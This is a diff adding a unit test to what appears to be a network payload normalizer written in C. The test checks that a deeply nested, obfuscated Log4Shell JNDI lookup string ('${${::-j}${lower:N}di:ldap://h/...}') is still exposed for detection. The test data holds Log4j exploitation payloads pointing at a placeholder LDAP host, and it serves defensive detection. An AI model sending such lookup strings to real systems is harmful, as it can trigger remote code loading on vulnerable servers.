@@ -217,6 +217,17 @@ static void test_caps(void)
 	    z.len[NORMALIZE_HEADERS]);
 	CHECK(strcmp(z.field[NORMALIZE_LOG4J], "jndi:ldap://h/late") == 0, "late lookup: %s",
 	    z.field[NORMALIZE_LOG4J]);
+	/* Nested past the depth cap: the skeleton still shows the jndi. */
+	o = (size_t)sprintf(big, "GET / HTTP/1.1\r\nX: ");
+	for (int i = 0; i < 20; i++)
+		o += (size_t)sprintf(big + o, "${::-");
+	o += (size_t)sprintf(big + o, "${${::-j}${lower:N}di:ldap://h/deep}");
+	for (int i = 0; i < 20; i++)
+		o += (size_t)sprintf(big + o, "}");
+	o += (size_t)sprintf(big + o, "\r\n\r\n");
+	normalize_payload(&z, (uint8_t *)big, o);
+	CHECK(strstr(z.field[NORMALIZE_LOG4J], "\njNdi:ldap://h/deep") != NULL, "deep: %s",
+	    z.field[NORMALIZE_LOG4J]);
 	/* Many requests: counted up to the cap. */
 	static const char req[] = "GET / HTTP/1.1\r\n\r\n";
 	size_t n = len / (sizeof(req) - 1);
